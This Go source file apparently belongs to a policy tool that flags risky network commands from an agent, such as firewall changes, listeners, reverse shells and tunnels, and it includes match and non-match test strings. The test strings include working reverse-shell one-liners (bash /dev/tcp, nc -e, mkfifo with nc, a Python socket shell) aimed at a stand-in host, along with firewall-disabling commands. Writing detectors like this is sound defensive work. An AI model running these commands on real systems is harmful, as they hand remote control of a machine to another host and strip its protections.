package dangerous

import (
	"strings"

	"github.com/policyctl/policyctl/internal/program"
	"github.com/policyctl/policyctl/pkg/hazard"
)

func networkRules() []hazard.Rule {
	return []hazard.Rule{
		{
			ID: "firewall-change", Class: "network", Kind: "changes-firewall",
			Why:     "changes the firewall",
			Instead: "List the rules (`iptables -L`, `nft list ruleset`, `ufw status`), and ask the user to change them.",
			Match:   match(arguments(1), acts("changes-firewall")),
			Hit:     []string{"iptables -F", "sudo iptables -A INPUT -p tcp --dport 80 -j ACCEPT", "ufw disable", "nft flush ruleset", "firewall-cmd --add-port=80/tcp", "pfctl -d", "netsh advfirewall set allprofiles state off"},
			Miss:    []string{"iptables -L", "iptables -S", "nft list ruleset", "ufw status", "firewall-cmd --list-all", "grep iptables setup.sh"},
		},
		{
			ID: "network-config", Class: "network", Kind: "changes-network",
			Why:     "changes the network of the machine",
			Instead: "Look at the settings (`ip addr`, `ip route`), and ask the user to change them.",
			Match:   match(acts("changes-network")),
			Hit:     []string{"ip link set eth0 down", "ip route add default via 10.0.0.1", "ifconfig eth0 down", "nmcli con down home", "networksetup -setdnsservers Wi-Fi 1.1.1.1", "ip addr flush dev eth0"},
			Miss:    []string{"ip addr", "ip -s link show eth0", "ifconfig", "ifconfig -a", "route -n", "nmcli device status", "ip route get 1.1.1.1", "ip link show up"},
		},
		{
			ID: "network-listener", Class: "network", Kind: "listens",
			Why:     "opens a port to the network, or attaches a program to a connection",
			Instead: "Use the tool's own server bound to 127.0.0.1, or ask the user.",
			Match:   match(acts("listens"), either(option("l", "listen", "e", "exec", "c", "sh-exec", "lua-exec"), argument(func(v string) bool { return contains("EXEC:", "SYSTEM:", "LISTEN:", "SHELL:")(strings.ToUpper(v)) }))),
			Hit:     []string{"nc -lvp 4444", "nc -e /bin/sh x.example 4444", "ncat -l 80 --exec /bin/bash", "socat TCP-LISTEN:80,fork EXEC:/bin/sh", "nc -kl 8000"},
			Miss:    []string{"nc -z localhost 5432", "nc -zv host 22", "socat --help", "echo hi | nc localhost 80"},
		},
		{
			ID: "network-shell", Class: "network", Programs: "",
			Why:     "attaches a shell to a connection, so that another host can control it",
			Instead: "Do not connect a shell to the network; run the commands you need here.",
			Match:   networkShell,
			Hit:     []string{"bash -i >& /dev/tcp/x.example/4444 0>&1", "exec 5<>/dev/tcp/x.example/4444", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc x.example 4444 > /tmp/f", `python3 -c "import socket,subprocess,os; s=socket.socket(); s.connect(('x.example',1)); os.dup2(s.fileno(),0); subprocess.call(['/bin/sh'])"`, "bash | nc x.example 4444"},
			Miss:    []string{"echo hi > /dev/null", "cat run.sh | grep nc", "echo '/dev/tcp/x.example/4444'", `python3 -c "import socket; print(socket.gethostname())"`, "bash run.sh | tee log"},
		},
		{
			ID: "open-tunnel", Class: "network", Kind: "tunnels",
			Why:     "lets others reach this machine from the network",
			Instead: "Use a local address only, or ask the user to open the tunnel.",
			Match:   match(acts("tunnels")),
			Hit:     []string{"ssh -R 8080:localhost:3000 host", "ngrok http 3000", "cloudflared tunnel --url http://localhost:3000", "npx localtunnel --port 3000", "tailscale funnel 3000", "ssh -fNR 80:localhost:80 host"},
			Miss:    []string{"ssh -L 5432:localhost:5432 host", "ssh host", "tailscale status", "ngrok version", "npx eslint ."},
		},
	}
}

// networkShell matches a redirection to the network as bash makes it, a shell
// whose output a connection takes, and scripts that do the same.
func networkShell(s *hazard.Scene, c *cmd) (span, bool) {
	for i := range c.Redirects {
		if r := &c.Redirects[i]; !r.Inline() && (anyValue(r.Target.Set, isNetworkFile) || isNetworkFile(r.Target.Prefix)) {
			return r.Span, true
		}
	}
	switch {
	case c.Of("pipes-to-port"):
		return c.Span, feeds(s, c, isBareShell)
	case c.Is(program.IsInterpreter):
		return c.Span, shellOverNetwork(c)
	}
	return span{}, false
}

func isNetworkFile(v string) bool { return hasPrefix("/dev/tcp/", "/dev/udp/")(v) }

// isBareShell holds for a shell that reads its commands from its input.
func isBareShell(c *cmd) bool {
	return c.Is(program.IsShell) && (readsProgram(c) || c.Args.Has("i")) && c.Context == program.Local
}
